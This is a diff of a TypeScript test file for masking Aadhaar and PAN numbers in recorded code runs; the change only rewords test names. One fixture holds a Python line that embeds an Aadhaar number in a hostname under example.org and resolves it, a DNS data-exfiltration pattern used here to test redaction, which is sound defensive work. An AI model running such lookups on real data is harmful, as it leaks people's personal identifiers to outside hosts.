@@ -39,7 +39,7 @@ const textOf = (code: string, stdout: string, hosts: readonly string[]): string 
 const digitsOf = (text: string): string => text.replaceAll(/[^\dA-Za-z]/g, '').toUpperCase();
 
 describe('The rows of a code run', () => {
-  it('an identifier of the code is masked in the output and in the hosts that the code tried to reach', () => {
+  it('an identifier in the code is masked in the output and in the hosts that the code tried to reach', () => {
     const written = grouped(AADHAAR, [4, 4, 4], ' ');
     const code = `a="${written}"  # aadhaar\nimport socket\nsocket.gethostbyname("x"+a.replace(" ","")+".example.org")`;
     const text = textOf(code, `sent ${written} as x${AADHAAR}`, [`x${AADHAAR}.example.org`]);
@@ -47,7 +47,7 @@ describe('The rows of a code run', () => {
     expect(text).toContain(`Code tried to reach xXXXXXXXX${AADHAAR.slice(-4)}.example.org`);
   });
 
-  it('an identifier of the output is masked in the code', () => {
+  it('an identifier in the output is masked in the code', () => {
     const text = textOf(`print("PAN:", "${PAN.slice(0, 5)}" "${PAN.slice(5)}")`, `PAN: ${PAN}\n`, []);
     expect(digitsOf(text)).not.toContain(PAN);
   });
@@ -58,7 +58,7 @@ describe('The rows of a code run', () => {
     expect(digitsOf(text)).not.toContain(PAN);
   });
 
-  it('an identifier beyond the recorded beginning of a text is masked in its beginning', () => {
+  it('an identifier that is found only beyond the recorded start of the output is masked in that start too', () => {
     const text = textOf('', `x${AADHAAR}y\n${'-\n'.repeat(5_000)}aadhaar ${AADHAAR}\n`, []);
     expect(text).not.toContain(AADHAAR);
   });
